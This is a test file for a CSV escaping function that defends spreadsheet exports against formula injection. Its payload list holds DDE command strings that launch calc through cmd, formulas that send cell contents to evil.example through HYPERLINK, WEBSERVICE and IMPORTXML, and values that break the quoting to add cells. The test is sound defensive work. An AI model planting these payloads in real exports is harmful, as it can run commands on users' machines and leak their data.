import { expect, it } from 'vitest';
import { cellsOf } from '../../src/draft/csv-record.js';
import { csvCell } from '../../src/safe/csv.js';

it.each([
  ['plain', '"plain"'],
  ['say "hi"', '"say ""hi"""'],
  ['=1+1', '"\'=1+1"'],
  ['  @SUM(A1)', '"\'  @SUM(A1)"'],
  ['\u00A0+1', '"\'\u00A0+1"'],
  ['\uFEFF-1', '"\'\uFEFF-1"'],
  ['＝1', '"\'＝1"'],
  ['one\n=two\r\n@three', '"one\n\'=two\n\'@three"'],
  ['a\rb', '"a\nb"'],
])('%j', (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

const LEADS = ['=', '+', '-', '@', '\t=', '\r=', '|', '%', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '\u00A0', '\uFEFF', '\u3000', 'fine\n', 'fine\r\n ', 'fine\r'];
const PAYLOADS = [
  ...LEADS.flatMap((lead) => BEFORE.map((before) => `${before}${lead}cmd|' /C calc'!A0`)),
  '=HYPERLINK("https://evil.example?"&A1)',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
  '@SUM(1+9)*cmd|A!1',
  '+44 1632 960100',
  "-2+3+cmd|' /C calc'!A0",
  '",=1+1,"',
  '"\n=1+1',
];

it.each(PAYLOADS)('%j is calculated by no spreadsheet', (payload) => {
  const read = cellsOf(csvCell(payload), ',');
  if (!read.ok) throw new Error(read.fault.message);
  const [cell, ...more] = read.cells.map(({ value }) => value);
  expect(more).toEqual([]);
  for (const line of (cell ?? '').split(/[\r\n]/u))
    expect(line).not.toMatch(/^[\s\u00A0\uFEFF]*[=+\-@\t\r|%＝＋－＠]/u);
});
